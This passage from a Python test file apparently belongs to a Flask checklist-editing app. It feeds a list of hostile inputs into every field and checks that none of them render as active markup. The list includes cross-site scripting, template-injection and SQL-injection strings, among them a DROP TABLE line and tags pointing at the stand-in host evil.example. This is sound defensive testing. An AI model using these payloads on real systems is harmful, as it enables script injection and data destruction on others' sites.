    assert page.address == "/redaksi/toko-contoh/riwayat"
    assert siti.open("/redaksi/toko-contoh/riwayat/0").status == 404


def test_a_copy_is_made_only_of_what_there_is(siti: Browser) -> None:
    page = siti.open("/redaksi/baru")
    data = {**dict(page.sent()), "id": "toko-contoh", "model": "tidak-ada"}

    assert siti.client.post("/redaksi/baru", data=data).status_code == 404


# --- text as an attack ----------------------------------------------------------------------------

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example></object>",
    "<details open ontoggle=alert(1)>",
    "<!-- --><b>x</b>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7*7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "javascript:alert(1)",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "x' OR '1'='1'; DROP TABLE staff; --",
    "<math><mtext></p><script>alert(1)</script>",
)
FIELDS = (
    "title: Lemari",
    "question: Berapa lemari obat yang ada?",
    "introduction: Periksa ruang tempat obat disimpan.",
    "guidance: Hitung semua lemari pendingin.",
    "words: Siap diajukan",
    "action: Sediakan lemari.",
    "note: Anda menyimpan obat dingin tetapi tidak punya lemari.",
    "id: lemari",
    "kind: count",
    "severity: m",
    'version: "2026.1"',
    "regulation: pp-28-2025",
    "rule: {at_least: 4}",
)


def attacked(payload: str) -> Iterator[str]:
    """The text with the payload in each field, and as a key."""
    quoted = json.dumps(payload, ensure_ascii=False)
    for field in FIELDS:
        assert field in TEXT
        key = field.partition(":")[0]
        yield TEXT.replace(field, f"{key}: {quoted}", 1)
    yield f"{TEXT}{quoted}: x\n"
    yield f"{TEXT}{payload}\n"


@pytest.mark.proof("Y7")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_stands_in_a_text_becomes_active(siti: Browser, payload: str) -> None:
    page = siti.open(AT)
    data = {**dict(page.sent()), "check": "1"}
    for text in attacked(payload):
        shown = Page(siti.client.post(AT, data={**data, "text": text}))

        assert shown.value("text") == text
        allowed = {"p", "a", "span", "strong", "pre", "li", "ol", "div", "section", "h2"}
        side = shown.by_id("problems")
        assert {each.tag for each in side.all()} <= allowed
        assert [a for a in side.all("a") if a.get("href") != "#text"] == []


@pytest.mark.proof("Y7")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_stands_in_a_checklist_becomes_active_in_its_preview(
    app: Flask, payload: str
) -> None:
    def elements(text: str) -> list[tuple[str, tuple[str, ...]]]:
        remedy = {"action": text, "days": 1, "cost": "low"}
        said = dict.fromkeys(("title", "question", "guidance", "means"), text)
        checklist = a_checklist(a_requirement(**said, remedy=remedy))
        tree = TreeBuilder()
        for each in preview.shown_page(checklist, checklist.pages[-1]):
            tree.feed(each.markup)
        return [(each.tag, tuple(each.attributes)) for each in tree.root.all()]

    with app.test_request_context():
        hostile, harmless = elements(payload), elements("biasa")

    assert len(harmless) > 10
    assert hostile == harmless
